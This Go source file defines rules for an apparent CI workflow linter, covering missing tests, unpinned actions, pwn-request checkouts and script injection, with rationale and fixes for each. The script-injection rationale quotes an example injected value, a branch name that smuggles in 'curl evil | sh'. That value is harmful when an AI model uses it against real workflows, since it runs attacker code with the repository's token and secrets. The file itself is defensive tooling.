package workflows

import (
	"github.com/preflight-dev/preflight/collectors/rules"
	"github.com/preflight-dev/preflight/model"
)

// The rules of this family. Their ids are stable: suppressions and
// acknowledgements refer to them.
var (
	RuleNoTestStage = rules.Rule{
		ID:        "workflow/no-test-stage",
		Severity:  model.High,
		Title:     "the CI pipeline runs no tests",
		Rationale: "Without a test stage every change reaches the main branch unverified; a green pipeline then only means it compiled, if that.",
		Fix:       "Add a job that runs the test suite on every push and pull request (go test ./..., npm test, pytest …).",
		Reference: "DORA capability: test automation; Continuous Delivery (Humble, Farley), ch. 3",
	}
	RuleNoSecurityScan = rules.Rule{
		ID:        "workflow/no-security-scan",
		Severity:  model.High,
		Title:     "the CI pipeline runs no security scan",
		Rationale: "Known-vulnerable dependencies, leaked secrets and common code flaws are found cheaply by scanners; without one they are found by someone else.",
		Fix:       "Add a scan job: CodeQL or semgrep for code, npm audit / govulncheck / trivy for dependencies, gitleaks for secrets.",
		Reference: "OWASP DevSecOps Guideline (SAST, SCA, secrets scanning); NIST SSDF PW.7, PW.8",
	}
	RuleUnpinnedAction = rules.Rule{
		ID:        "workflow/unpinned-action",
		Severity:  model.Low,
		Title:     "action not pinned to a full commit SHA",
		Rationale: "A tag or branch can be moved to different code at any time, by the owner or by whoever compromises their account; only a full commit SHA names fixed code.",
		Fix:       "Pin to the full 40-character commit SHA and keep the tag as a comment: uses: actions/checkout@<sha> # v4.2.2",
		Reference: "GitHub Docs, Security hardening for GitHub Actions: using third-party actions; OpenSSF Scorecard Pinned-Dependencies",
	}
	RulePRTargetCheckout = rules.Rule{
		ID:        "workflow/pr-target-checkout",
		Severity:  model.Blocker,
		Title:     "pull_request_target workflow checks out the pull request's code",
		Rationale: "pull_request_target runs with the base repository's secrets and a write token; building or running a fork's code there hands both to anyone who opens a pull request (a \"pwn request\").",
		Fix:       "Use the pull_request trigger for anything that runs the contributor's code; keep pull_request_target for labelling or commenting, without checking out the head.",
		Reference: "GitHub Security Lab, Keeping your GitHub Actions and workflows secure, part 1: preventing pwn requests",
	}
	RuleInvalid = rules.Rule{
		ID:        "workflow/invalid",
		Severity:  model.Blocker,
		Title:     "CI configuration that the CI system refuses",
		Rationale: "A workflow or .gitlab-ci.yml that is not valid YAML, is empty or has no jobs does not run at all: every check it was meant to run is silently missing.",
		Fix:       "Fix the file at the line shown (actionlint, or GitLab's CI lint, prints the same error).",
		Reference: "GitHub Docs, Workflow syntax for GitHub Actions; GitLab CI/CD YAML syntax reference",
	}
	RuleWorkflowRunCheckout = rules.Rule{
		ID:        "workflow/workflow-run-checkout",
		Severity:  model.Blocker,
		Title:     "workflow_run workflow checks out the triggering run's code with write permissions",
		Rationale: "A workflow_run workflow runs in the base repository with its secrets and token, even when the run that triggered it came from a fork; checking out that run's head commit and building or running it hands both to anyone who opens a pull request.",
		Fix:       "Treat the triggering run's output as data (download its artifacts and read them), never check out or run its code; if you must, give the job permissions: read-all and no secrets.",
		Reference: "GitHub Security Lab, Keeping your GitHub Actions and workflows secure, part 1: preventing pwn requests (workflow_run)",
	}
	RuleMissingScript = rules.Rule{
		ID:        "workflow/missing-script",
		Severity:  model.High,
		Title:     "a CI step runs a package script that does not exist",
		Rationale: "npm, pnpm and yarn exit with an error when the script is missing: the step fails on every push, so whatever it was meant to check is never checked.",
		Fix:       "Add the script to the package.json named in the message, or change the step to a script that exists (or its working-directory to the right package).",
		Reference: "npm docs, npm run-script",
	}
	RuleMissingWorkingDirectory = rules.Rule{
		ID:        "workflow/missing-working-directory",
		Severity:  model.High,
		Title:     "a CI step runs in a directory that does not exist",
		Rationale: "The runner fails the step before its command starts when its working-directory is missing.",
		Fix:       "Point working-directory (or defaults.run.working-directory) at a directory of the repository.",
		Reference: "GitHub Docs, Workflow syntax: jobs.<job_id>.steps[*].working-directory",
	}
	RuleNpmCIWithoutLockfile = rules.Rule{
		ID:        "workflow/npm-ci-without-lockfile",
		Severity:  model.High,
		Title:     "npm ci where there is no package-lock.json",
		Rationale: "npm ci installs exactly what the lockfile says and refuses to run without one: the step fails on every push.",
		Fix:       "Commit the package-lock.json (run npm install to create it), or use the install command of the package manager the directory uses.",
		Reference: "npm docs, npm ci",
	}
	RuleStaleBranchFilter = rules.Rule{
		ID:        "workflow/stale-branch-filter",
		Severity:  model.Medium,
		Title:     "a workflow waits for branches the repository does not have",
		Rationale: "A workflow whose push and pull_request triggers name only branches that do not exist (master after the default branch became main) never runs: the checks it holds gate nothing, though the file says they do.",
		Fix:       "Name the branches the project pushes to (or drop the filter), or delete the workflow if it is no longer wanted.",
		Reference: "GitHub Docs, Workflow syntax for GitHub Actions: on.<push|pull_request>.branches",
	}
	RuleScriptInjection = rules.Rule{
		ID:        "workflow/script-injection",
		Severity:  model.High,
		Title:     "untrusted input expanded into a script",
		Rationale: "${{ }} is substituted into the script text before the shell runs it, so an issue title or branch name such as `a\"; curl evil | sh; \"` becomes code running with the workflow's token and secrets.",
		Fix:       "Pass the value through an environment variable and quote it: env: TITLE: ${{ github.event.issue.title }} then run: echo \"$TITLE\".",
		Reference: "GitHub Docs, Security hardening for GitHub Actions: understanding the risk of script injections; GitHub Security Lab, part 2: untrusted input",
	}
)

// actionlintKinds are the checks actionlint reports findings under; each
// becomes rule actionlint/<kind>. A kind added by a later actionlint still
// reports, under its own id, without a description here.
var actionlintKinds = map[string]string{
	"syntax-check":        "workflow syntax",
	"expression":          "${{ }} expression syntax and types",
	"action":              "inputs and versions of actions used by uses:",
	"credentials":         "hard-coded credentials in container and services",
	"deprecated-commands": "deprecated workflow commands (set-output, save-state, set-env, add-path)",
	"env-var":             "environment variable names in env:",
	"events":              "workflow trigger events in on:",
	"glob":                "glob patterns in branches, tags and paths filters",
	"id":                  "job and step ids",
	"if-cond":             "if: conditions that are always true",
	"job-needs":           "dependencies between jobs in needs:",
	"matrix":              "matrix combinations",
	"permissions":         "permission scopes and values",
	"pyflakes":            "Python scripts in run: (needs pyflakes)",
	"runner-label":        "runner labels in runs-on:",
	"shell-name":          "shell names in shell:",
	"shellcheck":          "shell scripts in run: (needs shellcheck; the severity is ShellCheck's level)",
	"workflow-call":       "reusable workflow calls and their inputs",
}

// ActionlintRule returns the rule of an actionlint finding kind.
func ActionlintRule(kind string) rules.Rule {
	what := actionlintKinds[kind]
	if what == "" {
		what = kind
	}
	return rules.Rule{
		ID:        "actionlint/" + kind,
		Severity:  model.Medium,
		Title:     "actionlint: " + what,
		Rationale: "actionlint checks what GitHub only reports when the workflow runs, or silently ignores: a typo in an expression, a missing input, an unknown runner label.",
		Fix:       "Fix what the message says; run actionlint locally to check before pushing.",
		Reference: "actionlint checks: https://github.com/rhysd/actionlint/blob/main/docs/checks.md",
	}
}

// AllRules lists every rule the family reports, for the rule catalogue.
func AllRules() []rules.Rule {
	out := []rules.Rule{RuleNoTestStage, RuleNoSecurityScan, RuleUnpinnedAction, RulePRTargetCheckout, RuleScriptInjection, RuleInvalid,
		RuleWorkflowRunCheckout, RuleMissingScript, RuleMissingWorkingDirectory, RuleNpmCIWithoutLockfile, RuleStaleBranchFilter}
	for kind := range actionlintKinds {
		out = append(out, ActionlintRule(kind))
	}
	return out
}
